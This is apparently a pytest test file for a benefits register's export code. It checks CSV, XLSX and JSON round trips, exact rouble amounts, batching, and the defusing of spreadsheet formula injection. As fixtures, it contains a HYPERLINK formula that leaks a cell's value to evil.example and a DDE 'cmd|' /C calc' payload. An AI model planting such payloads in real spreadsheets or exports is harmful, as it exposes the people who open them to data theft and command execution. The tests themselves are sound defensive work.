"""Exporting the register: the import's shapes, money as exact roubles, formula triggers
neutralised in spreadsheets, atomic files, batches."""

from __future__ import annotations

import csv
import io
import json
import tempfile
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa
from hypothesis import example, given
from hypothesis import strategies as st

from registry import exporting
from registry.exporting import FORMULA_TRIGGERS, Column, export, neutralise, write_table
from registry.importing import import_file
from registry.models import Assignment, Calculation, Household, Person, RuleSetRecord
from registry.people import sync_reference
from tests.db.test_import import AS_OF, EXPECTED, PEOPLE, RU_PERSONS, S1, stored_persons, write_csv


@pytest.fixture
def register(db_session):  # type: ignore[no-untyped-def]
    sync_reference(db_session)
    return db_session


def _cases(session) -> list[tuple[str, str]]:  # type: ignore[no-untyped-def]
    return [tuple(r) for r in session.execute(sa.select(Person.snils, Person.case_number).order_by(Person.snils))]


def read_csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(path: Path) -> list[list[object]]:
    workbook = openpyxl.load_workbook(path, read_only=True)
    try:
        return [list(row) for row in workbook.worksheets[0].iter_rows(values_only=True)]
    finally:
        workbook.close()


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_export_then_import_gives_the_same_persons(register, tmp_path, fmt):
    savepoint = register.begin_nested()
    import_file(register, write_csv(tmp_path / "people.csv", RU_PERSONS, PEOPLE), as_of=AS_OF)
    cases = _cases(register)
    out = tmp_path / f"persons.{fmt}"
    assert export(register, "persons", fmt, out) == 4
    savepoint.rollback()
    assert stored_persons(register) == []
    report = import_file(register, out, as_of=AS_OF)
    assert (report.what, report.rows_loaded, report.problems) == ("persons", 4, ())
    assert stored_persons(register) == EXPECTED
    assert _cases(register) == cases  # the counters were rolled back too, so the same numbers


def test_persons_export_in_the_import_shape_plus_the_case_number(register, tmp_path):
    import_file(register, write_csv(tmp_path / "people.csv", RU_PERSONS, PEOPLE), as_of=AS_OF)
    rows = read_csv(tmp_path / "out.csv") if export(register, "persons", "csv", tmp_path / "out.csv") else []
    assert rows[0] == [
        "snils",
        "last_name",
        "first_name",
        "middle_name",
        "birth_date",
        "sex",
        "municipality",
        "registration_address",
        "residence_address",
        "case_number",
    ]
    assert rows[1][:8] == [
        S1,
        "Иванов",
        "Иван",
        "Иванович",
        "1980-03-12",
        "M",
        "36701000",
        "г. Самара, ул. Ленина, д. 1",
    ]
    assert (tmp_path / "out.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def _assignment(session, amount: Decimal, address: str = "") -> None:  # type: ignore[no-untyped-def]
    household = Household(reference="hh-1", region="63", municipality="36701000")
    person = Person(
        case_number="633670100000000013",
        snils=S1,
        last_name="Иванов",
        first_name="Иван",
        birth_date=date(1980, 3, 12),
        sex="M",
        municipality="36701000",
        registration_address=address or None,
    )
    session.add_all([household, person])
    session.flush()
    session.add(
        Assignment(
            person_id=person.id,
            household_id=household.id,
            measure="samara_edv_labour_veteran",
            period_from=date(2026, 3, 1),
            amount=amount,
            status="active",
        )
    )
    session.add(RuleSetRecord(version="v" * 64, label="test", files="{}", stored_at=datetime.now(UTC)))
    session.flush()
    session.add(
        Calculation(
            created_at=datetime(2026, 3, 10, 12, 0, tzinfo=UTC),
            actor="cli:test",
            household_id=household.id,
            person_id=person.id,
            measure="samara_edv_labour_veteran",
            period=date(2026, 3, 1),
            status="eligible",
            amount=amount,
            ruleset_version="v" * 64,
            snapshot="{}",
            result="{}",
        )
    )
    session.flush()


@pytest.mark.parametrize("what", ["assignments", "calculations"])
@pytest.mark.parametrize(("amount", "text"), [(Decimal("1234.5"), "1234.50"), (Decimal("0.07"), "0.07")])
def test_money_is_exported_as_roubles_with_two_decimals_never_float(register, tmp_path, what, amount, text):
    _assignment(register, amount)
    export(register, what, "csv", tmp_path / "out.csv")
    export(register, what, "json", tmp_path / "out.json")
    export(register, what, "xlsx", tmp_path / "out.xlsx")
    header, row = read_csv(tmp_path / "out.csv")
    assert row[header.index("amount")] == text
    assert row[header.index("case_number")] == "633670100000000013"
    (record,) = json.loads((tmp_path / "out.json").read_text("utf-8"))
    assert record["amount"] == text and record["measure"] == "samara_edv_labour_veteran"
    with zipfile.ZipFile(tmp_path / "out.xlsx") as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert f"<v>{text}</v>" in sheet  # the Decimal's exact text, not a float's (0.07000000000000001)
    if what == "calculations":
        assert row[header.index("period")] == "2026-03"
        assert row[header.index("created_at")] == "2026-03-10T12:00:00+00:00"


def test_text_cells_that_start_a_formula_are_neutralised_in_csv_and_xlsx(register, tmp_path):
    _assignment(register, Decimal("10"), address='=HYPERLINK("http://evil.example/?"&A1,"click")')
    export(register, "persons", "csv", tmp_path / "out.csv")
    export(register, "persons", "xlsx", tmp_path / "out.xlsx")
    export(register, "persons", "json", tmp_path / "out.json")
    column = 7  # registration_address
    assert read_csv(tmp_path / "out.csv")[1][column] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert read_xlsx(tmp_path / "out.xlsx")[1][column] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    record = json.loads((tmp_path / "out.json").read_text("utf-8"))[0]
    assert record["registration_address"].startswith("=")  # JSON is data, not a spreadsheet


def test_exports_stream_in_batches(register, tmp_path, monkeypatch):
    monkeypatch.setattr(exporting, "BATCH", 3)
    import_file(register, write_csv(tmp_path / "people.csv", RU_PERSONS, PEOPLE), as_of=AS_OF)
    statements: list[str] = []

    def seen(connection, cursor, statement, *args):  # type: ignore[no-untyped-def]
        statements.append(statement)

    engine = register.get_bind().engine
    sa.event.listen(engine, "before_cursor_execute", seen)
    try:
        assert export(register, "persons", "json", tmp_path / "out.json") == 4
    finally:
        sa.event.remove(engine, "before_cursor_execute", seen)
    assert len(json.loads((tmp_path / "out.json").read_text("utf-8"))) == 4
    assert sum("FROM persons" in s for s in statements) == 3  # 3 rows, 1 row, then an empty page


def test_a_failed_export_leaves_the_old_file_and_no_temporary(register, tmp_path, monkeypatch):
    import_file(register, write_csv(tmp_path / "people.csv", RU_PERSONS, PEOPLE), as_of=AS_OF)
    out = tmp_path / "out.csv"
    out.write_text("old", "utf-8")

    def broken(*args):  # type: ignore[no-untyped-def]
        yield ("1",) * 10
        raise KeyboardInterrupt

    monkeypatch.setattr(exporting, "_rows", broken)
    with pytest.raises(KeyboardInterrupt):
        export(register, "persons", "csv", out)
    assert out.read_text("utf-8") == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv", "people.csv", "people.csv.report.csv"]


def test_unknown_exports_are_errors(register, tmp_path):
    with pytest.raises(ValueError, match="nothing to export"):
        export(register, "payments", "csv", tmp_path / "x.csv")
    with pytest.raises(ValueError, match="unknown export format"):
        export(register, "persons", "xls", tmp_path / "x.xls")


# -- the property: no spreadsheet cell starts a formula -------------------------------------------------

COLUMNS = (Column("a"), Column("b"))
cells = st.text(max_size=30) | st.sampled_from(FORMULA_TRIGGERS).flatmap(lambda t: st.text(max_size=10).map(t.__add__))


def _no_cell_starts_a_formula(read: list[list[object]], written: list[tuple[str, str]]) -> None:
    for got_row, sent_row in zip(read[1:], written, strict=True):
        for got, sent in zip(got_row, sent_row, strict=True):
            got = got or ""
            assert not str(got).startswith(FORMULA_TRIGGERS), (sent, got)
            if sent.startswith(FORMULA_TRIGGERS):
                assert str(got).startswith("'")


@given(st.lists(st.tuples(cells, cells), min_size=1, max_size=5))
@example([("=1+1", "@SUM(A1)"), ("+7 999", "-2+3+cmd|' /C calc'!A0"), ("\tx", "\r\n"), ("\0", "'quoted")])
def test_no_exported_spreadsheet_cell_starts_a_formula(rows):
    with tempfile.TemporaryDirectory() as folder:
        csv_path, xlsx_path = Path(folder) / "out.csv", Path(folder) / "out.xlsx"
        write_table("csv", csv_path, COLUMNS, rows)
        write_table("xlsx", xlsx_path, COLUMNS, rows)
        read = read_csv(csv_path)
        assert read[1:] == [[neutralise(a), neutralise(b)] for a, b in rows]
        _no_cell_starts_a_formula(read, rows)
        _no_cell_starts_a_formula(read_xlsx(xlsx_path), rows)


@given(st.text())
def test_neutralise_prefixes_exactly_the_triggers(text):
    assert neutralise(text) == ("'" + text if text[:1] in FORMULA_TRIGGERS and text else text)
